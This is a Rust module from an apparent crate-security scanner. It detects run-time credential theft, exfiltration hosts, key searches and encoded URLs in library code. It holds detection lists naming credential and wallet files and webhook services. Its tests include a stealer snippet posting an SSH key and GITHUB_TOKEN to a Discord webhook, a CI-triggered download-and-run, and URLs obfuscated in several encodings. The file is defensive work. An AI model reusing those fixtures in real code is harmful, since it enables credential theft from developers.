//! Library code that starts reaching out (issue 17.6): what a crate's run-time code can do,
//! read with the same `syn` scanner as build scripts ([`super::capabilities`]).
//!
//! Malicious crates often act at run time, not at build time: `rustdecimal` (2022) checked
//! `GITLAB_CI` and, in CI, downloaded and ran a payload; `faster_log` and `async_println`
//! (2025) searched the files of the project for Solana and Ethereum keys and posted them to
//! a hard-coded endpoint. This module records, per crate version, the signals the engine
//! compares between the old and the new version (`engine::runtime_reach`):
//!
//! * **network**: `std::net` and HTTP client crates (the build-script rule);
//! * **process**: `std::process::Command`, `libc`/`nix` exec and spawn;
//! * **credential paths**: string literals naming credential or wallet files (`.ssh/`,
//!   `id_rsa`, `.cargo/credentials`, `solana/id.json`, `wallet.dat`, ...);
//! * **secret variables**: `env::var`, `env!`, `option_env!` of a name with a `TOKEN`,
//!   `SECRET`, `KEY`, `PASSWORD`, `PASSWD` or `CREDENTIAL(S)` word;
//! * **key patterns**: literals that look for private keys (a base58 character class, 64 hex
//!   digits);
//! * **exfiltration hosts**: paste and webhook services (pastebin, Discord webhooks, the
//!   Telegram bot API, ...);
//! * **encoded endpoints**: base64 or hex literals, byte arrays or reversed strings that
//!   decode to a URL or an exfiltration host;
//! * **download and run**: one file that reads the environment, uses the network and spawns
//!   a process.
//!
//! Bounded: only `.rs` files of the library are considered (not `tests/`, `benches/`,
//! `examples/` or the build script, which is judged at build time, and not the crate's own
//! test code: `#[cfg(test)]` modules and `#[test]` functions, see [`super::test_only`]); a file is parsed only
//! when its text contains a word one of the rules looks for (a file without one cannot yield a
//! signal); at most [`InspectLimits::max_library_files`] files and
//! [`InspectLimits::max_library_bytes`] bytes are parsed per crate. What the budget or a limit
//! leaves unparsed is listed in [`RuntimeReach::unread`], and its text is searched for the
//! markers that could make a crate `deny` ([`RuntimeReach::unparsed_markers`]), so a cut never
//! silently passes such a crate.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::fmt;

use proc_macro2::{Delimiter, TokenStream, TokenTree};
use serde::{Deserialize, Serialize};
use syn::visit::{self, Visit};

use super::InspectLimits;
use super::archive::FileRecord;
use super::capabilities::{HTTP_CRATES, ScanEnv, scan_file};
use super::manifest::truncate;
use super::markers;
use super::rust_source::{on_parser_thread, parse_file};
use super::surface::CapabilityKind;
use super::test_only;

/// What one piece of library code can do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ReachKind {
    Network,
    Process,
    CredentialPath,
    SecretVar,
    KeyPattern,
    ExfilHost,
    EncodedEndpoint,
    DownloadAndRun,
}

impl fmt::Display for ReachKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Network => "network",
            Self::Process => "process",
            Self::CredentialPath => "credential-path",
            Self::SecretVar => "secret-variable",
            Self::KeyPattern => "key-pattern",
            Self::ExfilHost => "exfiltration-host",
            Self::EncodedEndpoint => "encoded-endpoint",
            Self::DownloadAndRun => "download-and-run",
        })
    }
}

/// One signal in library code. `key` is what is compared between versions: the kind alone
/// for network, process and download-and-run; the marker, variable, host or decoded
/// endpoint otherwise.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct ReachSignal {
    pub kind: ReachKind,
    pub key: String,
    /// Path inside the package.
    pub file: String,
    /// 1-based line; 0 when unknown.
    pub line: u32,
    pub evidence: String,
}

/// The run-time reach of one crate version's library code.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct RuntimeReach {
    /// The signals, at most [`PER_KEY`] places per (kind, key), sorted.
    pub signals: Vec<ReachSignal>,
    /// Library `.rs` files in the archive.
    pub files: usize,
    /// Files parsed (the others mention nothing the rules look for, or were not read).
    pub parsed: usize,
    /// Bytes parsed.
    pub parsed_bytes: u64,
    /// Library files that may matter but were not parsed (a budget, a limit, not UTF-8, a
    /// syntax error), each with why; at most [`UNREAD_SHOWN`], `unread_count` says how many.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub unread: Vec<String>,
    #[serde(default)]
    pub unread_count: usize,
    /// Markers that could make the crate `deny` (credential and wallet paths, exfiltration
    /// hosts, key patterns, encoded URLs), found by a text search in files that were kept
    /// but not parsed.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub unparsed_markers: Vec<ReachSignal>,
}

impl RuntimeReach {
    /// Whether any signal of this kind is present.
    pub fn has(&self, kind: ReachKind) -> bool {
        self.signals.iter().any(|s| s.kind == kind)
    }

    /// The distinct keys of a kind.
    pub fn keys(&self, kind: ReachKind) -> HashSet<&str> {
        self.signals
            .iter()
            .filter(|s| s.kind == kind)
            .map(|s| s.key.as_str())
            .collect()
    }
}

/// Places kept per (kind, key).
pub const PER_KEY: usize = 3;
/// Signals kept per crate version.
const MAX_SIGNALS: usize = 400;
/// Entries of `unread` kept.
pub const UNREAD_SHOWN: usize = 20;

/// Top folders that are not part of the library.
const NOT_LIBRARY: &[&str] = &["tests", "benches", "examples"];

/// Names that must appear *as a path segment* (`net::`, `{net,`, `net}`, `net;`, `net as`) for
/// the network and process rules to fire in a file: the scanner resolves paths through the
/// file's own `use` declarations and full paths, which always spell them so.
const PATH_WORDS: &[&str] = &markers::joined::<12>(&[
    // network: std::net, HTTP client crates
    &["net"],
    HTTP_CRATES,
    // process
    &["process", "libc", "nix"],
]);

/// Substrings that make a file worth parsing: encoded URLs (base64 of `http` at each
/// alignment, hex, reversed, byte arrays).
const TRIGGERS: &[&str] = &[
    "aHR0c",
    "h0dH",
    "odHRw",
    "68747470",
    "//:ptth",
    "116, 116, 112",
    "116,116,112",
    "0x74, 0x74, 0x70",
    "0x74,0x74,0x70",
];

/// Secret-variable words (a `_`-separated word of the name, or its end: `APIKEY`).
const SECRET_WORDS: &[&str] = &[
    "TOKEN",
    "SECRET",
    "KEY",
    "PASSWORD",
    "PASSWD",
    "CREDENTIAL",
    "CREDENTIALS",
    "APIKEY",
    "PRIVKEY",
    "MNEMONIC",
];

/// Credential and wallet files (case-sensitive substrings of a string literal).
const CREDENTIAL_MARKERS: &[&str] = &markers::joined::<26>(&[
    &[".ssh/", "/.ssh"],
    markers::SSH_KEY_FILES,
    &["id_dsa"],
    markers::TOOL_CREDENTIAL_FILES,
    &[
        ".config/gh/hosts",
        "solana/id.json",
        ".config/solana",
        "wallet.dat",
        ".ethereum/keystore",
        "keystore/UTC--",
        ".electrum",
        "exodus.wallet",
        ".bitcoin/",
        "Local Storage/leveldb",
        "Login Data",
    ],
]);

/// Paste, file-drop and webhook services (lower-case substrings of a string literal).
const EXFIL_HOSTS: &[&str] = &[
    "pastebin.com",
    "paste.ee",
    "hastebin.",
    "ghostbin.",
    "rentry.co",
    "termbin.com",
    "transfer.sh",
    "file.io",
    "0x0.st",
    "webhook.site",
    "requestbin",
    "pipedream.net",
    "hooks.slack.com",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "ngrok.io",
    "ngrok-free.app",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
];

/// Character classes of private-key searches: base58 (Solana, Bitcoin) and hex.
const KEY_CLASSES: &[&str] = &["1-9A-HJ-NP-Za-km-z", "1-9a-km-zA-HJ-NP-Z"];
const HEX_CLASSES: &[&str] = &["0-9a-fA-F", "a-fA-F0-9", "0-9A-Fa-f", "A-Fa-f0-9"];

/// Reads the library code of a crate version. `skip`: the build script and its modules
/// (inspected as build-time code).
pub(crate) fn scan(
    files: &BTreeMap<String, FileRecord>,
    skip: &HashSet<String>,
    limits: &InspectLimits,
) -> RuntimeReach {
    let mut out = RuntimeReach::default();
    let env = ScanEnv {
        files,
        crate_renames: HashMap::new(),
    };
    let mut candidates: Vec<&FileRecord> = files
        .values()
        .filter(|r| r.path.ends_with(".rs") && !skip.contains(&r.path))
        .filter(|r| {
            let top = r.path.split('/').next().unwrap_or_default();
            !NOT_LIBRARY.contains(&top)
        })
        .collect();
    // Out-of-line test modules (`#[cfg(test)] mod tests;`) are not library code either.
    let test_only: HashSet<String> = candidates
        .iter()
        .filter_map(|r| {
            let text = std::str::from_utf8(r.content.as_deref()?).ok()?;
            text.contains("test")
                .then(|| test_only::test_only_files(&r.path, text))
        })
        .flatten()
        .collect();
    candidates.retain(|r| !test_only::is_in(&r.path, &test_only));
    out.files = candidates.len();
    // `src/` first: that is where a library lives.
    candidates.sort_by_key(|r| (!r.path.starts_with("src/"), r.path.clone()));
    let mut signals: Vec<ReachSignal> = Vec::new();
    let mut unread: Vec<String> = Vec::new();
    let mut past_budget = 0usize;
    for rec in candidates {
        let Some(content) = &rec.content else {
            unread.push(format!(
                "`{}` ({} bytes): its text was not kept (over the per-file limit or the per-crate budget of kept bytes)",
                rec.path, rec.size
            ));
            continue;
        };
        let Ok(text) = std::str::from_utf8(content) else {
            unread.push(format!("`{}`: not valid UTF-8", rec.path));
            continue;
        };
        if !mentions_any(text) {
            continue;
        }
        if out.parsed >= limits.max_library_files
            || out.parsed_bytes.saturating_add(rec.size) > limits.max_library_bytes
        {
            past_budget += 1;
            out.unparsed_markers.extend(text_markers(&rec.path, text));
            continue;
        }
        out.parsed += 1;
        out.parsed_bytes = out.parsed_bytes.saturating_add(rec.size);
        let path = rec.path.clone();
        let mod_dir = parent(&path).to_owned();
        let scanned = on_parser_thread(|| {
            parse_file(text, limits.max_rust_tokens).map(|mut file| {
                test_only::strip(&mut file);
                file_signals(&file, &path, &mod_dir, &env)
            })
        })
        .and_then(|r| r);
        match scanned {
            Ok(found) => signals.extend(found),
            Err(reason) => {
                unread.push(format!("`{}` was not parsed: {reason}", rec.path));
                out.unparsed_markers.extend(text_markers(&rec.path, text));
            }
        }
    }
    if past_budget > 0 {
        unread.push(format!(
            "{past_budget} more files were not parsed: the per-crate budget of library code ({} files, {} bytes); their text was searched for credential paths, exfiltration hosts, key patterns and encoded URLs",
            limits.max_library_files, limits.max_library_bytes
        ));
    }
    out.unread_count = unread.len() + past_budget.saturating_sub(1);
    unread.truncate(UNREAD_SHOWN);
    out.unread = unread;
    out.signals = cap_signals(signals);
    out.unparsed_markers = cap_signals(std::mem::take(&mut out.unparsed_markers));
    out
}

fn parent(path: &str) -> &str {
    path.rsplit_once('/').map_or("", |(d, _)| d)
}

/// Whether `word` occurs as a path segment: a whole word followed by `::`, `,`, `}`, `;` or
/// ` as `.
fn used_as_path(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        if before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
            return false;
        }
        let rest = &text[i + word.len()..];
        if rest.starts_with(|c: char| c.is_alphanumeric() || c == '_') {
            return false;
        }
        let after = rest.trim_start();
        after.starts_with("::")
            || after.starts_with([',', '}', ';'])
            || (after.starts_with("as") && after[2..].starts_with(char::is_whitespace))
    })
}

fn mentions_any(text: &str) -> bool {
    PATH_WORDS.iter().any(|w| used_as_path(text, w))
        || TRIGGERS.iter().any(|t| text.contains(t))
        || (text.contains("env") && SECRET_WORDS.iter().any(|w| text.contains(w)))
        || CREDENTIAL_MARKERS.iter().any(|m| text.contains(m))
        || KEY_CLASSES.iter().any(|m| text.contains(m))
        || HEX_CLASSES.iter().any(|m| text.contains(m))
        || {
            let lower = text.to_ascii_lowercase();
            EXFIL_HOSTS.iter().any(|h| lower.contains(h))
        }
}

/// Keeps [`PER_KEY`] places per (kind, key) and [`MAX_SIGNALS`] in all, sorted.
fn cap_signals(mut signals: Vec<ReachSignal>) -> Vec<ReachSignal> {
    signals.sort();
    signals.dedup();
    let mut seen: HashMap<(ReachKind, String), usize> = HashMap::new();
    signals.retain(|s| {
        let n = seen.entry((s.kind, s.key.clone())).or_default();
        *n += 1;
        *n <= PER_KEY
    });
    signals.truncate(MAX_SIGNALS);
    signals
}

/// The signals of one parsed file.
fn file_signals(
    file: &syn::File,
    path: &str,
    mod_dir: &str,
    env: &ScanEnv<'_>,
) -> Vec<ReachSignal> {
    let mut out = Vec::new();
    let sig = |kind: ReachKind, key: &str, line: u32, evidence: &str| ReachSignal {
        kind,
        key: key.to_owned(),
        file: path.to_owned(),
        line,
        evidence: truncate(evidence, 200),
    };
    let scan = scan_file(file, path, mod_dir, env);
    let (mut net, mut proc_, mut env_read) = (None, None, false);
    for cap in &scan.capabilities {
        match cap.kind {
            CapabilityKind::Network => {
                net.get_or_insert(cap.line);
                out.push(sig(ReachKind::Network, "network", cap.line, &cap.evidence));
            }
            CapabilityKind::Process | CapabilityKind::BuildTool | CapabilityKind::PackageScript => {
                proc_.get_or_insert(cap.line);
                out.push(sig(ReachKind::Process, "process", cap.line, &cap.evidence));
            }
            CapabilityKind::EnvRead => env_read = true,
            CapabilityKind::CredentialPath => {
                // The scanner's literal and home-directory hits are judged below with the
                // run-time marker list; what is left is an environment variable.
                let ev = cap.evidence.as_str();
                if ev.starts_with("string literal") || ev.starts_with("byte string") {
                    continue;
                }
                if ev.contains("home_dir") {
                    continue;
                }
                env_read = true;
                if let Some(name) = first_quoted(ev)
                    && is_secret_name(&name)
                {
                    out.push(sig(ReachKind::SecretVar, &name, cap.line, ev));
                }
            }
            CapabilityKind::FileAccess | CapabilityKind::Obfuscation => {}
        }
    }
    if let (Some(n), Some(p), true) = (net, proc_, env_read) {
        out.push(sig(
            ReachKind::DownloadAndRun,
            "download-and-run",
            p,
            &format!(
                "this file reads the environment, uses the network (line {n}) and starts a process (line {p})"
            ),
        ));
    }
    let mut lits = LiteralCollector::default();
    lits.visit_file(file);
    for (value, line) in &lits.strings {
        for (kind, key, evidence) in literal_signals(value) {
            out.push(sig(kind, &key, *line, &evidence));
        }
    }
    for (bytes, line) in &lits.byte_arrays {
        if let Some(url) = decoded_endpoint(bytes) {
            out.push(sig(
                ReachKind::EncodedEndpoint,
                &url,
                *line,
                &format!("an integer array of {} bytes spells `{url}`", bytes.len()),
            ));
        }
    }
    out
}

/// The first `"..."` in a piece of evidence (an environment variable's name).
fn first_quoted(evidence: &str) -> Option<String> {
    let start = evidence.find('"')? + 1;
    let len = evidence[start..].find('"')?;
    let name = &evidence[start..start + len];
    (!name.is_empty() && name.len() <= 100).then(|| name.to_owned())
}

/// Whether an environment variable's name names a secret (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`,
/// `DB_PASSWORD`, `OPENAI_APIKEY`), by its `_`-separated words.
pub(crate) fn is_secret_name(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    upper
        .split(|c: char| !c.is_ascii_alphanumeric())
        .any(|w| SECRET_WORDS.contains(&w) || w.ends_with("APIKEY") || w.ends_with("TOKEN"))
}

/// Signals of one string literal: `(kind, key, evidence)`.
fn literal_signals(value: &str) -> Vec<(ReachKind, String, String)> {
    let mut out = Vec::new();
    let shown = || truncate(&format!("{value:?}"), 120);
    if let Some(m) = CREDENTIAL_MARKERS.iter().find(|m| value.contains(*m)) {
        out.push((
            ReachKind::CredentialPath,
            (*m).to_owned(),
            format!("string literal naming `{m}`: {}", shown()),
        ));
    }
    let lower = value.to_ascii_lowercase();
    if let Some(h) = EXFIL_HOSTS.iter().find(|h| lower.contains(*h)) {
        out.push((
            ReachKind::ExfilHost,
            (*h).to_owned(),
            format!(
                "string literal with the paste or webhook service `{h}`: {}",
                shown()
            ),
        ));
    }
    if let Some(k) = key_pattern(value) {
        out.push((
            ReachKind::KeyPattern,
            k.to_owned(),
            format!("string literal that searches for {k}: {}", shown()),
        ));
    }
    if let Some(url) = encoded_literal_endpoint(value) {
        out.push((
            ReachKind::EncodedEndpoint,
            url.clone(),
            format!(
                "string literal {} decodes to `{url}`",
                truncate(&format!("{value:?}"), 60)
            ),
        ));
    }
    out
}

fn key_pattern(value: &str) -> Option<&'static str> {
    if KEY_CLASSES.iter().any(|c| value.contains(c)) {
        return Some("base58 keys (a base58 character class)");
    }
    let hex64 = HEX_CLASSES.iter().any(|c| {
        value.contains(&format!("[{c}]{{64}}")) || value.contains(&format!("[{c}]{{128}}"))
    });
    hex64.then_some("hex keys (64 or 128 hex digits)")
}

/// A literal that is an encoded or reversed URL: what it decodes to.
fn encoded_literal_endpoint(value: &str) -> Option<String> {
    let t = value.trim();
    if t.contains("//:ptth") || t.contains("//:sptth") {
        let url: String = t.chars().rev().collect();
        return Some(truncate(&url, 100));
    }
    if t.len() < 12 || t.len() > 64 * 1024 {
        return None;
    }
    let bytes = if t.len().is_multiple_of(2) && t.bytes().all(|b| b.is_ascii_hexdigit()) {
        hex::decode(t).ok()?
    } else {
        base64_decode(t)?
    };
    decoded_endpoint(&bytes)
}

/// Decoded bytes that hold a URL or an exfiltration host: the readable part.
fn decoded_endpoint(bytes: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(bytes);
    let lower = text.to_ascii_lowercase();
    let at = ["https://", "http://", "wss://", "ws://", "ftp://"]
        .iter()
        .filter_map(|p| lower.find(p))
        .min()
        .or_else(|| EXFIL_HOSTS.iter().filter_map(|h| lower.find(h)).min())?;
    let url: String = text[at..]
        .chars()
        .take_while(|c| !c.is_control() && !c.is_whitespace() && *c != '"')
        .collect();
    (url.len() >= 8).then(|| truncate(&url, 100))
}

/// Standard or URL-safe base64 (padding optional); None when it is not base64.
fn base64_decode(s: &str) -> Option<Vec<u8>> {
    let body = s.trim_end_matches('=');
    if body.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(body.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for b in body.bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// Markers that could make a crate `deny`, by a plain text search (for files not parsed).
fn text_markers(path: &str, text: &str) -> Vec<ReachSignal> {
    let mut out = Vec::new();
    let line_at = |i: usize| {
        u32::try_from(text[..i].bytes().filter(|&b| b == b'\n').count() + 1).unwrap_or(u32::MAX)
    };
    let mut push = |kind: ReachKind, key: &str, i: usize| {
        out.push(ReachSignal {
            kind,
            key: key.to_owned(),
            file: path.to_owned(),
            line: line_at(i),
            evidence: format!("`{key}` in text that was not parsed"),
        });
    };
    for m in CREDENTIAL_MARKERS {
        if let Some(i) = text.find(m) {
            push(ReachKind::CredentialPath, m, i);
        }
    }
    let lower = text.to_ascii_lowercase();
    for h in EXFIL_HOSTS {
        if let Some(i) = lower.find(h) {
            push(ReachKind::ExfilHost, h, i);
        }
    }
    for k in KEY_CLASSES {
        if let Some(i) = text.find(k) {
            push(ReachKind::KeyPattern, k, i);
        }
    }
    for e in ["aHR0c", "h0dH", "odHRw", "68747470", "//:ptth"] {
        if let Some(i) = text.find(e) {
            push(ReachKind::EncodedEndpoint, e, i);
        }
    }
    out
}

/// String literals (with their line) and integer arrays of a file, outside attributes.
#[derive(Default)]
struct LiteralCollector {
    strings: Vec<(String, u32)>,
    byte_arrays: Vec<(Vec<u8>, u32)>,
}

fn line_of(span: proc_macro2::Span) -> u32 {
    u32::try_from(span.start().line).unwrap_or(u32::MAX)
}

impl LiteralCollector {
    fn on_lit(&mut self, lit: &syn::Lit) {
        match lit {
            syn::Lit::Str(s) => self.strings.push((s.value(), line_of(s.span()))),
            syn::Lit::ByteStr(b) => {
                if let Ok(s) = String::from_utf8(b.value()) {
                    self.strings.push((s, line_of(b.span())));
                }
            }
            _ => {}
        }
    }

    /// Literals inside macro bodies, skipping `#[...]` (doc comments in `macro_rules!`).
    fn tokens(&mut self, tokens: TokenStream) {
        let mut stack = vec![tokens.into_iter()];
        let mut after_hash = false;
        while let Some(top) = stack.last_mut() {
            let Some(tt) = top.next() else {
                stack.pop();
                continue;
            };
            match tt {
                TokenTree::Punct(p) => after_hash = p.as_char() == '#',
                TokenTree::Group(g) => {
                    let skip = after_hash && g.delimiter() == Delimiter::Bracket;
                    after_hash = false;
                    if !skip && stack.len() < 128 {
                        stack.push(g.stream().into_iter());
                    }
                }
                TokenTree::Literal(l) => {
                    after_hash = false;
                    self.on_lit(&syn::Lit::new(l));
                }
                TokenTree::Ident(_) => after_hash = false,
            }
        }
    }
}

impl<'ast> Visit<'ast> for LiteralCollector {
    fn visit_attribute(&mut self, _: &'ast syn::Attribute) {}

    fn visit_lit(&mut self, lit: &'ast syn::Lit) {
        self.on_lit(lit);
    }

    fn visit_macro(&mut self, mac: &'ast syn::Macro) {
        self.tokens(mac.tokens.clone());
    }

    fn visit_expr_array(&mut self, a: &'ast syn::ExprArray) {
        if a.elems.len() >= 8 && a.elems.len() <= 4096 {
            let bytes: Option<Vec<u8>> = a
                .elems
                .iter()
                .map(|e| match e {
                    syn::Expr::Lit(syn::ExprLit {
                        lit: syn::Lit::Int(i),
                        ..
                    }) => i.base10_parse::<u8>().ok(),
                    _ => None,
                })
                .collect();
            if let Some(bytes) = bytes {
                let line = a.bracket_token.span.open().start().line;
                self.byte_arrays
                    .push((bytes, u32::try_from(line).unwrap_or(u32::MAX)));
                return;
            }
        }
        visit::visit_expr_array(self, a);
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::inspect::archive::read_archive;
    use crate::testkit::krate::Krate;

    fn reach(lib: &str) -> RuntimeReach {
        reach_with(lib, &InspectLimits::default())
    }

    fn reach_with(lib: &str, limits: &InspectLimits) -> RuntimeReach {
        let bytes = Krate::new("foo", "1.0.0").file("src/lib.rs", lib).build();
        let c = read_archive("foo", "1.0.0", bytes.as_slice(), limits).unwrap();
        scan(&c.files, &HashSet::new(), limits)
    }

    fn kinds(r: &RuntimeReach) -> Vec<(ReachKind, String)> {
        let mut k: Vec<(ReachKind, String)> =
            r.signals.iter().map(|s| (s.kind, s.key.clone())).collect();
        k.dedup();
        k
    }

    #[test]
    fn a_stealer_shows_every_part() {
        let r = reach(
            r#"
            use std::io::Read;
            pub fn log(msg: &str) {
                let home = std::env::var("HOME").unwrap_or_default();
                let key = std::fs::read_to_string(format!("{home}/.ssh/id_rsa")).unwrap_or_default();
                let token = std::env::var("GITHUB_TOKEN").ok();
                let _ = reqwest::blocking::Client::new()
                    .post("https://discord.com/api/webhooks/1/abc")
                    .body(format!("{msg}{key}{token:?}"))
                    .send();
            }
            "#,
        );
        let k = kinds(&r);
        assert!(k.contains(&(ReachKind::Network, "network".into())), "{k:?}");
        assert!(
            k.contains(&(ReachKind::CredentialPath, ".ssh/".into())),
            "{k:?}"
        );
        assert!(
            k.contains(&(ReachKind::SecretVar, "GITHUB_TOKEN".into())),
            "{k:?}"
        );
        assert!(
            k.contains(&(ReachKind::ExfilHost, "discord.com/api/webhooks".into())),
            "{k:?}"
        );
        assert!(!k.iter().any(|(_, key)| key == "HOME"), "{k:?}");
        assert_eq!(r.parsed, 1);
    }

    #[test]
    fn encoded_endpoints_are_decoded() {
        // base64, hex, reversed and an integer array of `https://evil.example/{a,b,c,d}`
        let r = reach(
            r#"
            const A: &str = "aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYQ==";
            const B: &str = "68747470733a2f2f6576696c2e6578616d706c652f62";
            const C: &str = "c/elpmaxe.live//:sptth";
            const D: [u8; 22] = [104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120, 97, 109, 112, 108, 101, 47, 100];
            "#,
        );
        let mut urls: Vec<&str> = r
            .signals
            .iter()
            .filter(|s| s.kind == ReachKind::EncodedEndpoint)
            .map(|s| s.key.as_str())
            .collect();
        urls.sort();
        assert_eq!(
            urls,
            [
                "https://evil.example/a",
                "https://evil.example/b",
                "https://evil.example/c",
                "https://evil.example/d"
            ],
            "{r:?}"
        );
    }

    #[test]
    fn ordinary_literals_and_docs_are_not_signals() {
        let r = reach(
            r#"
            //! Reads `~/.ssh/config` — a doc comment is not code.
            /// Connects to https://pastebin.com in the docs only.
            pub fn f() -> &'static str { "deadbeefcafebabe0123" }
            pub const TABLE: [u8; 8] = [1, 2, 3, 4, 5, 6, 7, 8];
            pub fn net_sum(a: u32) -> u32 { a + 1 }
            "#,
        );
        assert!(r.signals.is_empty(), "{:?}", r.signals);
    }

    #[test]
    fn path_words_must_be_paths() {
        assert!(used_as_path("use std::net::TcpStream;", "net"));
        assert!(used_as_path("use std::{net, fs};", "net"));
        assert!(used_as_path("use std::net as n;", "net"));
        assert!(used_as_path("extern crate reqwest;", "reqwest"));
        assert!(!used_as_path(
            "#[cfg(unix)] fn f() {} // the net effect",
            "nix"
        ));
        assert!(!used_as_path("// the net effect", "net"));
        assert!(!used_as_path("fn process(x: u8) {}", "process"));
        assert!(!used_as_path("let internet = 1;", "net"));
    }

    #[test]
    fn files_without_a_trigger_are_not_parsed() {
        let r = reach("pub fn add(a: u32, b: u32) -> u32 { a + b }\n");
        assert_eq!((r.files, r.parsed), (1, 0));
        assert!(r.signals.is_empty());
    }

    #[test]
    fn process_and_env_gated_download_and_run() {
        let r = reach(
            r#"
            pub fn init() {
                if std::env::var("GITLAB_CI").is_ok() {
                    let body = ureq::get("https://example.com/p").call();
                    std::process::Command::new("/tmp/p").spawn().ok();
                }
            }
            "#,
        );
        let k = kinds(&r);
        for want in [
            ReachKind::Network,
            ReachKind::Process,
            ReachKind::DownloadAndRun,
        ] {
            assert!(k.iter().any(|(kind, _)| *kind == want), "{want}: {k:?}");
        }
    }

    #[test]
    fn secret_names_are_words() {
        for yes in [
            "GITHUB_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "DB_PASSWORD",
            "OPENAI_APIKEY",
            "NPM_TOKEN",
        ] {
            assert!(is_secret_name(yes), "{yes}");
        }
        for no in [
            "HOME",
            "KEYBOARD_LAYOUT",
            "RUST_LOG",
            "MONKEY",
            "TOKENIZERS_PARALLELISM_X",
        ] {
            assert!(!is_secret_name(no), "{no}");
        }
    }

    #[test]
    fn the_budget_cut_is_said_and_its_text_searched() {
        let limits = InspectLimits {
            max_library_files: 1,
            ..InspectLimits::default()
        };
        let bytes = Krate::new("foo", "1.0.0")
            .file("src/lib.rs", "pub mod z; pub fn f() { let _ = std::net::TcpStream::connect(\"x:1\"); }\n")
            .file("src/z.rs", "pub const P: &str = \"/home/u/.config/solana/id.json\"; fn n() { std::net::TcpStream::connect(\"y:2\").ok(); }\n")
            .build();
        let c = read_archive("foo", "1.0.0", bytes.as_slice(), &limits).unwrap();
        let r = scan(&c.files, &HashSet::new(), &limits);
        assert_eq!(r.parsed, 1);
        assert_eq!(r.unread_count, 1, "{r:?}");
        assert!(r.unread[0].contains("budget"), "{r:?}");
        assert!(
            r.unparsed_markers
                .iter()
                .any(|m| m.kind == ReachKind::CredentialPath && m.file == "src/z.rs"),
            "{r:?}"
        );
    }

    #[test]
    fn the_crates_own_test_code_is_not_library_code() {
        // security-framework 2.11.1 and hf-hub 0.5.0: their unit tests read `PASSWORD` /
        // `HF_TOKEN` and open sockets; nothing a dependent compiles.
        let bytes = Krate::new("foo", "1.0.0")
            .file(
                "src/lib.rs",
                "pub fn f() {}\n#[cfg(test)]\nmod helpers;\n#[cfg(test)]\nmod tests {\n    fn creds() { let _ = std::env::var(\"PASSWORD\"); }\n    fn net() { let _ = std::net::TcpStream::connect((\"localhost\", 1)); }\n}\n#[test]\nfn t() { let _ = std::env::var(\"HF_TOKEN\"); }\n",
            )
            .file(
                "src/helpers.rs",
                "pub fn h() { let _ = std::env::var(\"API_TOKEN\"); let _ = std::net::TcpStream::connect(\"x:1\"); }\n",
            )
            .build();
        let limits = InspectLimits::default();
        let c = read_archive("foo", "1.0.0", bytes.as_slice(), &limits).unwrap();
        let r = scan(&c.files, &HashSet::new(), &limits);
        assert_eq!(r.files, 1, "src/helpers.rs is a test module's file");
        assert!(r.signals.is_empty(), "{:?}", r.signals);

        // The same code outside the test build is seen.
        let bytes = Krate::new("foo", "1.0.1")
            .file(
                "src/lib.rs",
                "pub fn f() { let _ = std::env::var(\"PASSWORD\"); let _ = std::net::TcpStream::connect((\"localhost\", 1)); }\n#[cfg(not(test))]\nmod helpers;\n",
            )
            .file(
                "src/helpers.rs",
                "pub fn h() { let _ = std::env::var(\"API_TOKEN\"); }\n",
            )
            .build();
        let c = read_archive("foo", "1.0.1", bytes.as_slice(), &limits).unwrap();
        let r = scan(&c.files, &HashSet::new(), &limits);
        assert_eq!(r.files, 2);
        let got = kinds(&r);
        for want in [
            (ReachKind::SecretVar, "PASSWORD".to_owned()),
            (ReachKind::SecretVar, "API_TOKEN".to_owned()),
            (ReachKind::Network, "network".to_owned()),
        ] {
            assert!(got.contains(&want), "{want:?} in {got:?}");
        }
    }

    #[test]
    fn tests_benches_examples_and_build_scripts_are_not_library_code() {
        let bytes = Krate::new("foo", "1.0.0")
            .file("src/lib.rs", "pub fn f() {}\n")
            .file(
                "tests/t.rs",
                "fn t() { std::net::TcpStream::connect(\"x:1\").ok(); }\n",
            )
            .file(
                "examples/e.rs",
                "fn main() { std::process::Command::new(\"sh\"); }\n",
            )
            .file(
                "build.rs",
                "fn main() { std::net::TcpStream::connect(\"x:1\").ok(); }\n",
            )
            .build();
        let limits = InspectLimits::default();
        let c = read_archive("foo", "1.0.0", bytes.as_slice(), &limits).unwrap();
        let r = scan(&c.files, &HashSet::from(["build.rs".to_owned()]), &limits);
        assert_eq!(r.files, 1);
        assert!(r.signals.is_empty(), "{:?}", r.signals);
    }

    #[test]
    fn base64_decoder_matches_known_values() {
        assert_eq!(base64_decode("aGVsbG8=").unwrap(), b"hello");
        assert_eq!(base64_decode("aGVsbG8").unwrap(), b"hello");
